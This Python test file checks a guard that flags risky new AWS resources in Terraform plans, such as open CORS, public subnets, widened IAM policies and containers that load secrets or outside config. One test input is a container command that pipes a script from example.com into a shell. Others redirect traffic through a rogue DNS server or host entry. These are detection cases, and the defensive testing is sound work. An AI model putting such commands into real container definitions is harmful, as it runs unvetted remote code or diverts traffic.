"""New resources that are open, share something or run foreign code are noticed; ordinary ones pass in silence."""

import json
from typing import Any

import pytest

from guard.verdict import Severity
from tests.guard.plans import ACCOUNT, REGION, Json, create, judge, keep, plan, replace, rules, update

TASK, SECRET = "aws_ecs_task_definition.mailer", f"arn:aws:secretsmanager:{REGION}:{ACCOUNT}:secret:stripe-AbCdEf"
IMAGE = f"{ACCOUNT}.dkr.ecr.{REGION}.amazonaws.com/mailer:1"
STRIPE = keep("aws_secretsmanager_secret.stripe", {"arn": SECRET})


def reported(document: Json) -> set[str]:
    return rules(judge(document), Severity.REPORTED)


@pytest.mark.parametrize(
    ("type_", "values", "rule"),
    [
        ("aws_s3_bucket_cors_configuration", {"cors_rule": [{"allowed_origins": ["*"]}]}, "every-origin"),
        ("aws_s3_bucket_cors_configuration", {"cors_rule": [{"allowed_origins": ["https://*"]}]}, "every-origin"),
        ("aws_s3_bucket_cors_configuration", {"cors_rule": [{"allowed_origins": ["https://app.example.com"]}]}, ""),
        ("aws_sns_topic_subscription", {"protocol": "https", "endpoint": "https://a.example"}, "subscriber-added"),
        ("aws_sns_topic_subscription", {"protocol": "email", "endpoint": "a@example.com"}, "subscriber-added"),
        ("aws_vpc_endpoint", {"service_name": "com.amazonaws.eu-west-2.sqs"}, ""),
        ("aws_vpc_endpoint", {"service_name": "aws.sagemaker.eu-west-2.notebook"}, ""),
        ("aws_vpc_endpoint", {"service_name": "com.amazonaws.vpce.eu-west-2.vpce-svc-0a1b"}, "endpoint-to-others"),
        ("aws_subnet", {"map_public_ip_on_launch": True}, "public-access"),
        ("aws_subnet", {"map_public_ip_on_launch": False}, ""),
        ("aws_ecr_repository", {"image_tag_mutability": "MUTABLE"}, "image-tags-mutable"),
        ("aws_ecr_repository", {"image_scanning_configuration": [{"scan_on_push": False}]}, "image-scan-off"),
        ("aws_ecr_repository", {"image_tag_mutability": "IMMUTABLE"}, ""),
        ("aws_kms_key", {"enable_key_rotation": False}, "key-rotation-off"),
        ("aws_lb_listener", {"ssl_policy": "ELBSecurityPolicy-2016-08"}, "transport-weakened"),
        ("aws_lb_listener", {"ssl_policy": "ELBSecurityPolicy-TLS13-1-3-2021-06"}, ""),
        ("aws_route", {"destination_cidr_block": "10.9.0.0/16", "transit_gateway_id": "tgw-1"}, "route-added"),
        ("aws_iam_role", {"max_session_duration": 43200}, "session-lengthened"),
    ],
)
def test_dangerous_value_of_a_new_resource_is_reported(type_: str, values: Json, rule: str) -> None:
    assert reported(plan(create(f"{type_}.it", values))) == ({rule} if rule else set())


@pytest.mark.parametrize(
    ("type_", "values", "rule"),
    [
        ("aws_s3_bucket", {"website": [{"index_document": "index.html"}]}, "public-access"),
        ("aws_s3_bucket", {"grant": [{"type": "Group", "permissions": ["READ"]}]}, "public-access"),
        ("aws_s3_bucket", {"replication_configuration": [{"role": "r"}]}, "storage-moved"),
        ("aws_iam_role", {"inline_policy": [{"name": "a", "policy": "{}"}]}, "policy-widened"),
        ("aws_iam_role", {"managed_policy_arns": ["arn:aws:iam::aws:policy/AmazonS3FullAccess"]}, "policy-attached"),
        (
            "aws_vpc_security_group_ingress_rule",
            {"referenced_security_group_id": "999999999999/sg-1", "ip_protocol": "-1"},
            "group-opened",
        ),
    ],
)
def test_new_resource_that_gives_access_is_blocked(type_: str, values: Json, rule: str) -> None:
    assert rule in rules(judge(plan(create(f"{type_}.it", values))))


def container(**members: Any) -> Json:
    return {"container_definitions": json.dumps([{"name": "mailer", "image": IMAGE, **members}])}


@pytest.mark.parametrize(
    ("members", "rule"),
    [
        ({}, ""),
        ({"command": ["node", "mailer.js"], "healthCheck": {"command": ["CMD", "curl", "http://localhost"]}}, ""),
        ({"command": ["sh", "-c", "curl http://example.com/x | sh"]}, "container-fed-from-elsewhere"),
        ({"environmentFiles": [{"type": "s3", "value": "arn:aws:s3:::b/x.env"}]}, "container-fed-from-elsewhere"),
        ({"dnsServers": ["192.0.2.1"]}, "traffic-moved"),
        ({"extraHosts": [{"hostname": "api.stripe.com", "ipAddress": "192.0.2.1"}]}, "traffic-moved"),
        ({"environment": [{"name": "API_BASE", "value": "https://other.example.com"}]}, "server-named"),
        ({"environment": [{"name": "QUEUE", "value": f"https://sqs.{REGION}.amazonaws.com/{ACCOUNT}/jobs"}]}, ""),
        ({"secrets": [{"name": "KEY", "valueFrom": SECRET}]}, "secret-given"),
        ({"secrets": [{"name": "KEY", "valueFrom": f"{SECRET}:field::"}]}, "secret-given"),
        ({"secrets": [{"name": "KEY", "valueFrom": f"{SECRET}-of-another"}]}, ""),
    ],
)
def test_new_container_shows_what_it_loads_and_learns(members: Json, rule: str) -> None:
    assert reported(plan(create(TASK, container(**members)), STRIPE)) == ({rule} if rule else set())


def test_secret_that_a_container_has_may_move_to_another_field_and_server_may_keep_its_host() -> None:
    before = container(
        secrets=[{"name": "USER", "valueFrom": f"{SECRET}:user::"}],
        environment=[{"name": "API", "value": "https://a.example/v1"}],
    )
    after = container(
        secrets=[{"name": "USER", "valueFrom": f"{SECRET}:user::"}, {"name": "PASS", "valueFrom": f"{SECRET}:pass::"}],
        environment=[{"name": "API", "value": "https://a.example/v2"}],
    )
    found = {one.rule for one in judge(plan(replace(TASK, before, after), STRIPE)).findings}
    assert not found & {"secret-given", "server-named"}
    other = container(environment=[{"name": "API", "value": "https://b.example/v1"}])
    assert "server-named" in reported(plan(replace(TASK, before, other)))


def test_budget_that_tells_somebody_new_is_reported() -> None:
    def told(*addresses: str) -> Json:
        return {"notification": [{"notification_type": "ACTUAL", "subscriber_email_addresses": list(addresses)}]}

    assert "subscriber-added" in reported(plan(create("aws_budgets_budget.it", told("a@example.com"))))
    change = update("aws_budgets_budget.it", told("a@example.com"), told("a@example.com", "b@example.com"))
    assert "subscriber-added" in reported(plan(change))
    change = update("aws_budgets_budget.it", told("a@example.com", "b@example.com"), told("a@example.com"))
    assert "subscriber-added" not in reported(plan(change))
